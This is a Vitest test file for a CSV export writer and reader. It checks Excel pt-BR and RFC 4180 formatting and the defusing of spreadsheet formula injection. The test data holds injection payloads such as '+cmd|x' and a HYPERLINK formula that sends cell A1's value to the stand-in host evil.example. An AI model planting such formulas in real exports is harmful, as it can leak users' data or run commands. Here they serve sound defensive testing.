import { describe, expect, it } from 'vitest';
import { CSV_FEED, csvTexto, escreverCsv } from '../src/csv.js';

describe('escreverCsv (the one CSV writer: products and merchants exports, the Meta feed)', () => {
  it("writes Excel pt-BR's format: BOM, ';', CRLF, quotes only where needed", () => {
    expect(
      escreverCsv([
        ['id', 'nome'],
        ['a1', 'Pão; "o melhor"\nda casa'],
        ['b2', ' espaço '],
        ['c3', 12],
      ]),
    ).toBe('\uFEFFid;nome\r\na1;"Pão; ""o melhor""\nda casa"\r\nb2;" espaço "\r\nc3;12\r\n');
  });

  it.each(['=HYPERLINK(1;2)', '+cmd|x', '-2+3', '@SUM(1)', '\tx', '\rx'])(
    'when a cell starts like a formula (%j), then it is written after an apostrophe and read back as typed',
    (valor) => {
      const linha = escreverCsv([[valor]])
        .slice(1)
        .replace(/\r\n$/, '');
      expect(linha.replace(/^"/, '').startsWith("'")).toBe(true);
      expect(csvTexto(linha.replace(/^"|"$/g, ''))).toBe(valor);
    },
  );

  it("writes a channel's feed as RFC 4180 (',', LF, no BOM), formulas neutralised the same way", () => {
    expect(
      escreverCsv(
        [
          ['id', 'title'],
          ['a1', '=HYPERLINK("http://evil.example/?"&A1,"Clique")'],
          ['b2', 'Pão, "o melhor"'],
        ],
        CSV_FEED,
      ),
    ).toBe('id,title\na1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")"\nb2,"Pão, ""o melhor"""\n');
  });

  it('when a cell starts with an apostrophe before ordinary text, then the import keeps it', () => {
    expect(csvTexto("'90s")).toBe("'90s");
  });
});
